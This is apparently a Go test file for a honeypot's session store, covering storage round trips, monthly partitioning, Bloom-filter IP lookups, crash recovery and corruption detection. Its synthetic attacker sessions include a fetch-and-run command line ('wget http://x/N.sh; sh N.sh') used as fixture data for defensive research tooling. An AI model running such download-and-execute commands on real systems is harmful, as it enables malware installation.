package store

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"honeynet/internal/session"
)

// mkRecord builds a deterministic test record. Month index selects the
// partition; i varies the content.
func mkRecord(month, i int) *session.Record {
	start := time.Date(2021, time.Month(5+month), 1, 0, 0, 0, 0, time.UTC).
		Add(time.Duration(i) * 97 * time.Second)
	r := &session.Record{
		ID:         uint64(month*1_000_000 + i),
		Start:      start,
		End:        start.Add(45 * time.Second),
		HoneypotID: "hp-1",
		ClientIP:   fmt.Sprintf("203.0.%d.%d", month, i%250),
		ClientPort: 40000 + i,
		Protocol:   session.ProtoSSH,
	}
	switch i % 4 {
	case 1:
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "x", Success: false}}
	case 2:
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
	case 3:
		r.Logins = []session.LoginAttempt{{Username: "root", Password: "admin", Success: true}}
		r.Commands = []session.Command{{Raw: fmt.Sprintf("wget http://x/%d.sh; sh %d.sh", i, i), Known: true}}
		r.Downloads = []session.Download{{URI: fmt.Sprintf("http://x/%d.sh", i), Hash: fmt.Sprintf("%064x", i)}}
		r.StateChanged = true
	}
	if i%7 == 0 {
		r.Protocol = session.ProtoTelnet
	}
	return r
}

// fill appends n records spread over `months` partitions, interleaved
// so sealing has to split batches by month.
func fill(t *testing.T, s *Store, n, months int) []*session.Record {
	t.Helper()
	recs := make([]*session.Record, 0, n)
	for i := 0; i < n; i++ {
		r := mkRecord(i%months, i)
		if err := s.Append(r); err != nil {
			t.Fatalf("append %d: %v", i, err)
		}
		recs = append(recs, r)
	}
	return recs
}

// marshal re-encodes a record the way the store does, for bit-identity
// comparisons.
func marshal(t *testing.T, r *session.Record) []byte {
	t.Helper()
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestRoundTripBitIdentical(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{BlockBytes: 2048})
	if err != nil {
		t.Fatal(err)
	}
	want := fill(t, s, 500, 3)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	s2, err := Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	got := drainStream(t, s2.Stream())
	if len(got) != len(want) {
		t.Fatalf("loaded %d records, want %d", len(got), len(want))
	}
	for i := range want {
		if w, g := marshal(t, want[i]), marshal(t, got[i]); !bytes.Equal(w, g) {
			t.Fatalf("record %d not bit-identical:\n want %s\n  got %s", i, w, g)
		}
	}
}

func TestRoundTripCowrieImported(t *testing.T) {
	// Records reconstructed from a Cowrie event log must survive the
	// store write→scan path bit-identically too.
	var cowrie bytes.Buffer
	var src []*session.Record
	for i := 0; i < 40; i++ {
		src = append(src, mkRecord(i%2, i))
	}
	if err := session.WriteCowrieJSONL(&cowrie, src); err != nil {
		t.Fatal(err)
	}
	imported, err := session.ReadCowrieJSONL(&cowrie)
	if err != nil {
		t.Fatal(err)
	}
	if len(imported) != len(src) {
		t.Fatalf("imported %d sessions, want %d", len(imported), len(src))
	}

	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range imported {
		if err := s.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s2, err := Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	got := drainStream(t, s2.Stream())
	if len(got) != len(imported) {
		t.Fatalf("streamed %d records, want %d", len(got), len(imported))
	}
	for i := range imported {
		if w, g := marshal(t, imported[i]), marshal(t, got[i]); !bytes.Equal(w, g) {
			t.Fatalf("cowrie-imported record %d not bit-identical after store round trip", i)
		}
	}
}

func TestSealPartitionsByMonth(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	fill(t, s, 300, 4)
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}
	if got := s.Segments(); got != 4 {
		t.Fatalf("segments = %d, want 4 (one per month)", got)
	}
	months := s.Months()
	if len(months) != 4 {
		t.Fatalf("months = %v", months)
	}
	for i := 1; i < len(months); i++ {
		if !months[i-1].Before(months[i]) {
			t.Fatalf("months not ascending: %v", months)
		}
	}
	// Scanning one month yields exactly that month's records, in
	// append order.
	var n int
	var lastID uint64
	for _, r := range runRows(t, s, &Query{Where: inMonth(months[1])}) {
		if !r.Month().Equal(months[1]) {
			t.Fatalf("record %d outside scanned month", r.ID)
		}
		if n > 0 && r.ID <= lastID {
			t.Fatalf("append order violated: %d after %d", r.ID, lastID)
		}
		lastID = r.ID
		n++
	}
	if n != 75 {
		t.Fatalf("month scan yielded %d records, want 75", n)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestScanSealedPlusTailAndFilter(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	fill(t, s, 120, 2)
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}
	fill(t, s, 60, 2) // unsealed tail on top of sealed segments

	var got int
	for _, r := range runRows(t, s, &Query{Where: Cmp(FieldKind, CmpEq, KindValue(session.CommandExec))}) {
		if r.Kind() != session.CommandExec {
			t.Fatal("filter leaked a non-exec record")
		}
		got++
	}
	want := 0
	for i := 0; i < 120; i++ {
		if mkRecord(i%2, i).Kind() == session.CommandExec {
			want++
		}
	}
	for i := 0; i < 60; i++ {
		if mkRecord(i%2, i).Kind() == session.CommandExec {
			want++
		}
	}
	if got != want {
		t.Fatalf("filtered scan yielded %d, want %d", got, want)
	}
}

func TestScanIPBloomPruning(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	// Month 0 holds the campaign IP; months 1 and 2 never see it.
	campaign := "198.51.100.77"
	for i := 0; i < 90; i++ {
		r := mkRecord(i%3, i)
		if i%3 == 0 && i%9 == 0 {
			r.ClientIP = campaign
		}
		if err := s.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Seal(); err != nil {
		t.Fatal(err)
	}

	res, err := s.RunQuery(&Query{Where: Cmp(FieldIP, CmpEq, StringValue(campaign))})
	if err != nil {
		t.Fatal(err)
	}
	defer res.Close()
	var got int
	for res.Next() {
		if res.Record().ClientIP != campaign {
			t.Fatal("ip = yielded a foreign record")
		}
		got++
	}
	if err := res.Err(); err != nil {
		t.Fatal(err)
	}
	if got != 10 {
		t.Fatalf("ip = found %d sessions, want 10", got)
	}
	st := res.Stats()
	if st.BloomChecked != 3 {
		t.Fatalf("bloom checks = %d, want 3 (one per segment)", st.BloomChecked)
	}
	// The two campaign-free months must be pruned (modulo Bloom false
	// positives, which the ~1% rate makes vanishingly unlikely at this
	// size).
	if st.BloomPruned != 2 {
		t.Fatalf("bloom skips = %d, want 2", st.BloomPruned)
	}
}

func TestReopenAppendsContinue(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	fill(t, s, 100, 2)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	s, err = Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if s.Len() != 100 {
		t.Fatalf("reopened Len = %d, want 100", s.Len())
	}
	fill(t, s, 50, 2)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	s, err = Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if recs := drainStream(t, s.Stream()); len(recs) != 150 {
		t.Fatalf("after reopen+append: %d records, want 150", len(recs))
	}
}

func TestUnsealedTailSurvivesReopen(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1})
	if err != nil {
		t.Fatal(err)
	}
	fill(t, s, 40, 1)
	if err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	// Simulate a crash: no Seal, no Close.
	s.walF.Close()

	s2, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	if s2.Segments() != 0 {
		t.Fatalf("crash must not seal: %d segments", s2.Segments())
	}
	if s2.Len() != 40 {
		t.Fatalf("WAL replay recovered %d records, want 40", s2.Len())
	}
}

func TestStoreSoak(t *testing.T) {
	// Race-hunting soak: concurrent appenders, scanners, metadata
	// aggregates, and seals over a live store. Run under -race in CI.
	dir := t.TempDir()
	s, err := Open(dir, Options{SealBytes: -1, SyncEvery: -1, BlockBytes: 4096})
	if err != nil {
		t.Fatal(err)
	}
	const writers, perWriter = 4, 300
	var wg sync.WaitGroup
	stop := make(chan struct{})
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				if err := s.Append(mkRecord(i%3, w*perWriter+i)); err != nil {
					t.Errorf("append: %v", err)
					return
				}
			}
		}(w)
	}
	wg.Add(1)
	go func() { // periodic sealer
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			default:
				if err := s.Seal(); err != nil {
					t.Errorf("seal: %v", err)
					return
				}
				time.Sleep(time.Millisecond)
			}
		}
	}()
	for g := 0; g < 3; g++ { // concurrent readers
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-stop:
					return
				default:
				}
				res, err := s.RunQuery(&Query{})
				if err != nil {
					t.Errorf("scan: %v", err)
					return
				}
				for res.Next() {
					_ = res.Record().Kind()
				}
				if err := res.Err(); err != nil {
					t.Errorf("scan: %v", err)
					return
				}
				res.Close()
				for _, m := range s.Months() {
					if _, err := s.RunQuery(&Query{Where: inMonth(m), GroupBy: []Field{FieldKind}, Aggs: []AggSpec{{Op: AggCount}}}); err != nil {
						t.Errorf("aggregate: %v", err)
						return
					}
				}
			}
		}()
	}
	// Wait for the writers, then stop the background load.
	done := make(chan struct{})
	go func() {
		for s.appended.Load() < writers*perWriter {
			time.Sleep(time.Millisecond)
		}
		close(done)
	}()
	<-done
	close(stop)
	wg.Wait()
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}

	s2, err := Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	if got := s2.Len(); got != writers*perWriter {
		t.Fatalf("soak store holds %d records, want %d", got, writers*perWriter)
	}
	if got := len(drainStream(t, s2.Stream())); got != writers*perWriter {
		t.Fatalf("stream after soak yielded %d records, want %d", got, writers*perWriter)
	}
}

func TestCorruptBlockDetected(t *testing.T) {
	dir := t.TempDir()
	s, err := Open(dir, Options{})
	if err != nil {
		t.Fatal(err)
	}
	fill(t, s, 50, 1)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	// Flip a byte in the middle of the sealed segment.
	seg := filepath.Join(dir, segFileName(0))
	data, err := os.ReadFile(seg)
	if err != nil {
		t.Fatal(err)
	}
	data[len(data)/2] ^= 0xff
	if err := os.WriteFile(seg, data, 0o644); err != nil {
		t.Fatal(err)
	}

	s2, err := Open(dir, Options{ReadOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	defer s2.Close()
	st := s2.Stream()
	for st.Next() {
	}
	if st.Err() == nil {
		t.Fatal("corrupt block must fail the stream, not return bad data")
	}
	st.Close()
	res, err := s2.RunQuery(&Query{})
	if err != nil {
		t.Fatal(err)
	}
	for res.Next() {
	}
	if res.Err() == nil {
		t.Fatal("corrupt block must surface through Result.Err")
	}
	res.Close()
}

func TestBloom(t *testing.T) {
	b := newBloom(1000)
	for i := 0; i < 1000; i++ {
		b.Add(fmt.Sprintf("10.0.%d.%d", i/250, i%250))
	}
	for i := 0; i < 1000; i++ {
		if !b.MayContain(fmt.Sprintf("10.0.%d.%d", i/250, i%250)) {
			t.Fatalf("bloom false negative at %d", i)
		}
	}
	fp := 0
	for i := 0; i < 10000; i++ {
		if b.MayContain(fmt.Sprintf("192.168.%d.%d", i/250, i%250)) {
			fp++
		}
	}
	if fp > 300 { // ~1% expected; 3% is already alarming
		t.Fatalf("bloom false-positive rate too high: %d/10000", fp)
	}
	// Serialization round trip through JSON (the manifest path).
	data, err := json.Marshal(b)
	if err != nil {
		t.Fatal(err)
	}
	b2 := &Bloom{}
	if err := json.Unmarshal(data, b2); err != nil {
		t.Fatal(err)
	}
	if !b2.MayContain("10.0.0.0") {
		t.Fatal("bloom lost members over JSON round trip")
	}
}
